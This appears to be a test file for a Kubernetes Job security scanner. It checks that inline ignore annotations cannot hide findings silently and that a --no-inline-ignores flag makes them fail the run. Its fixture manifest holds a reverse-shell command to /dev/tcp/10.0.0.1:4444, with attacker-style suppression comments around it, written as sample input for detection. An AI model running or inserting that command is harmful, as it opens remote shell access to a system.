/**
 * `jobsentinel.io/ignore: all` on an attacker's own Job, or a comment above the payload, must never
 * make a scan look clean without saying so; `--no-inline-ignores` lets CI honour only the config file.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { run, runJson, workspace } from './helpers.ts';

const JOB = `apiVersion: batch/v1
kind: Job
metadata:
  name: sync
  annotations:
    jobsentinel.io/ignore: all
spec:
  template:
    spec:
      containers:
        - name: sync
          image: registry.example.com/app:1
          # jobsentinel-ignore: shell-escape
          command: ["sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
`;

describe('scan: suppression is never silent', () => {
  const dir = workspace({ '.git/HEAD': 'ref: refs/heads/main\n', 'job.yaml': JOB });

  test('text: the summary counts what was suppressed; --show-suppressed lists each with how', () => {
    const quiet = run(['scan', 'job.yaml'], { cwd: dir });
    assert.match(quiet.stdout, /No findings in 1 file, 2 suppressed/);
    const listed = run(['scan', '--show-suppressed', 'job.yaml'], { cwd: dir });
    assert.match(listed.stdout, /job\.yaml:14:\d+ +suppressed +shell-escape .*suppressed by the annotation at 6:28\]/);
  });

  test('json lists suppressed[] and counts them; sarif marks them inSource', () => {
    const { json } = runJson(['scan', 'job.yaml'], { cwd: dir });
    assert.deepEqual(json.findings, []);
    assert.equal(json.summary.suppressed, 2);
    assert.deepEqual(json.suppressed.map((finding: { suppression: { kind: string } }) => finding.suppression.kind), ['annotation', 'annotation']);
    const sarif = JSON.parse(run(['scan', '--format', 'sarif', 'job.yaml'], { cwd: dir }).stdout);
    assert.deepEqual(sarif.runs[0].results.map((result: { suppressions: Array<{ kind: string }> }) => result.suppressions[0].kind), ['inSource', 'inSource']);
  });

  test('--no-inline-ignores: the annotation and the comment count for nothing, the findings fail the run', () => {
    const { status, json } = runJson(['scan', '--no-inline-ignores', 'job.yaml'], { cwd: dir });
    assert.equal(status, 1);
    assert.deepEqual(json.suppressed, []);
    assert.ok(json.findings.some((finding: { indicator: string }) => finding.indicator === 'shell-escape'));
  });

  test('the flags are in the help', () => {
    const help = run(['scan', '--help']).stdout;
    assert.match(help, /--no-inline-ignores/);
    assert.match(help, /--show-suppressed/);
  });
});
